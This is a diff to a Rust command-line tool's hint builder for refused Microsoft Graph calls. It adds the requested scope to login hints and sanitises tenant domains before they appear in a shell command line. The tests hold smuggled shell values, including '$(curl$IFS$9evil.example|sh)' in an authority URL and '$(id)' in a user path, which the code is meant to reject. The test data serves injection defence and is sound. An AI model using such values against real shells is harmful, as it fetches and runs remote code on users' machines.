@@ -12,6 +12,8 @@ use crate::output::shell_word;
 pub(super) struct Refused<'a> {
     /// The application signed in as itself.
     pub is_application: bool,
+    /// What the call asked for.
+    pub asked: ScopeSet,
     /// What the token was granted for.
     pub scopes: &'a [String],
     /// Where the account is, if that is known: `https://contoso.ciamlogin.com/contoso.onmicrosoft.com`.
@@ -40,9 +42,13 @@ impl Refused<'_> {
         let mut hints = if permissions.iter().any(|permission| self.has(permission)) {
             vec![format!("The token has {least}, so that it is the account that may not do this")]
         } else {
-            let login = match ScopeSet::parse(least) {
-                Ok(scopes) if !self.is_application => login_command(&scopes),
-                _ => "cids login --app-only".to_owned(),
+            let then = match ScopeSet::parse(least) {
+                Ok(scopes) if !self.is_application => {
+                    let login = format!("Then run `{}`", login_command(&scopes));
+                    // Without the flag the same call would take the same token again.
+                    if self.asked.contains(least) { login } else { format!("{login}, and repeat the call with --scope {least}") }
+                }
+                _ => "Then run `cids login --app-only`".to_owned(),
             };
             vec![
                 format!("{method} {path} needs the {} permission {} at least", kind.to_lowercase(), permissions.join(" or ")),
@@ -50,7 +56,7 @@ impl Refused<'_> {
                     "In an external tenant an administrator must consent to it: App registration > API permissions > Add a permission > \
                      Microsoft Graph > {kind} permissions > {least}, then Grant admin consent"
                 ),
-                format!("Then run `{login}`"),
+                then,
             ]
         };
         let own = path.trim_matches('/').eq_ignore_ascii_case("me");
@@ -124,13 +130,13 @@ fn user_name(path: &str) -> Option<String> {
     }
 }
 
-/// The tenant's first domain, which is the issuer of its customers' identities.
+/// The tenant's first domain, which is the issuer of its customers' identities, as it can stand in a line for a shell.
 fn tenant_domain(authority: &str) -> Option<String> {
     let rest = authority.split_once("://")?.1;
     let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
-    let named = path.split('/').find(|segment| segment.ends_with(".onmicrosoft.com"));
-    let subdomain = host.strip_suffix(".ciamlogin.com").map(|subdomain| format!("{subdomain}.onmicrosoft.com"));
-    named.map(str::to_owned).or(subdomain)
+    let is_label = |label: &&str| label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
+    let named = path.split('/').find_map(|segment| segment.strip_suffix(".onmicrosoft.com"));
+    named.or_else(|| host.strip_suffix(".ciamlogin.com")).filter(is_label).map(|label| format!("{label}.onmicrosoft.com"))
 }
 
 #[cfg(test)]
@@ -140,7 +146,9 @@ mod tests {
     use super::*;
     use crate::graph::Challenge;
 
-    const PERSON: Refused<'_> = Refused { is_application: false, scopes: &[], authority: None };
+    fn person() -> Refused<'static> {
+        Refused { is_application: false, asked: ScopeSet::parse("User.Read").unwrap(), scopes: &[], authority: None }
+    }
 
     fn hints(refused: &Refused<'_>, method: Method, path: &str, status: u16) -> String {
         let request = Request::new(method, Url::parse(&format!("https://graph.microsoft.com/v1.0/{path}")).unwrap());
@@ -150,20 +158,23 @@ mod tests {
     #[test]
     fn the_missing_permission_and_the_sign_in_are_named() {
         assert_eq!(
-            hints(&PERSON, Method::GET, "users?$top=1", 403),
+            hints(&person(), Method::GET, "users?$top=1", 403),
             "GET /users needs the delegated permission User.ReadBasic.All at least\n\
              In an external tenant an administrator must consent to it: App registration > API permissions > Add a permission > \
              Microsoft Graph > Delegated permissions > User.ReadBasic.All, then Grant admin consent\n\
-             Then run `cids login --scope User.ReadBasic.All`\n\
+             Then run `cids login --scope User.ReadBasic.All`, and repeat the call with --scope User.ReadBasic.All\n\
              Customers may read and change only themselves, under /me, whatever was consented to"
         );
-        let patch = hints(&PERSON, Method::PATCH, "me", 403);
-        assert!(patch.contains("--scope User.ReadWrite`") && patch.ends_with("surname, preferredLanguage"), "{patch}");
+        let patch = hints(&person(), Method::PATCH, "me", 403);
+        assert!(patch.contains("--scope User.ReadWrite`, and repeat the call with --scope User.ReadWrite\n"), "{patch}");
+        let asked = Refused { asked: ScopeSet::parse("User.ReadWrite").unwrap(), ..person() };
+        assert!(hints(&asked, Method::PATCH, "me", 403).contains("Then run `cids login --scope User.ReadWrite`\n"));
+        assert!(patch.ends_with("surname, preferredLanguage"), "{patch}");
     }
 
     #[test]
     fn an_application_needs_its_own_permissions() {
-        let application = Refused { is_application: true, ..PERSON };
+        let application = Refused { is_application: true, ..person() };
         let told = hints(&application, Method::GET, "users/8b1f", 403);
         assert!(told.contains("Application permissions > User.ReadBasic.All") && told.contains("`cids login --app-only`"), "{told}");
         assert!(!told.contains("Customers"), "{told}");
@@ -173,7 +184,7 @@ mod tests {
     #[test]
     fn a_permission_that_is_there_is_not_asked_for_again() {
         let granted = ["https://graph.microsoft.com/user.readbasic.all".to_owned()];
-        let told = hints(&Refused { scopes: &granted, ..PERSON }, Method::GET, "users", 403);
+        let told = hints(&Refused { scopes: &granted, ..person() }, Method::GET, "users", 403);
         assert!(told.starts_with("The token has User.ReadBasic.All") && !told.contains("cids login"), "{told}");
     }
 
@@ -183,10 +194,11 @@ mod tests {
             (Some("https://contoso.ciamlogin.com/8b1f0f2e-51a5-4f0b-9a43-1f6c2f0a7d11"), "contoso.onmicrosoft.com"),
             (Some("http://localhost:1/litware.onmicrosoft.com"), "litware.onmicrosoft.com"),
             (Some("https://login.litware.example/x"), "TENANT.onmicrosoft.com"),
+            (Some("https://contoso.ciamlogin.com/$(curl$IFS$9evil.example|sh).onmicrosoft.com"), "TENANT.onmicrosoft.com"),
             (None, "TENANT.onmicrosoft.com"),
         ] {
             let told = hints(
-                &Refused { authority: authority.map(str::to_owned), ..PERSON },
+                &Refused { authority: authority.map(str::to_owned), ..person() },
                 Method::GET,
                 "users/casey%40litware.example/memberOf",
                 404,
@@ -196,7 +208,7 @@ mod tests {
             );
             assert!(told.ends_with(&line), "{told}");
         }
-        assert!(hints(&PERSON, Method::GET, "users/$(id)`@x.example", 404).contains("eq 'EMAIL'"));
+        assert!(hints(&person(), Method::GET, "users/$(id)`@x.example", 404).contains("eq 'EMAIL'"));
     }
 
     #[test]
@@ -217,7 +229,7 @@ mod tests {
     #[test]
     fn nothing_is_made_up() {
         for (path, status) in [("users/8b1f", 404), ("no/such/path", 403), ("me", 404), ("users", 500)] {
-            assert_eq!(hints(&PERSON, Method::GET, path, status), "", "{path} {status}");
+            assert_eq!(hints(&person(), Method::GET, path, status), "", "{path} {status}");
         }
     }
 }
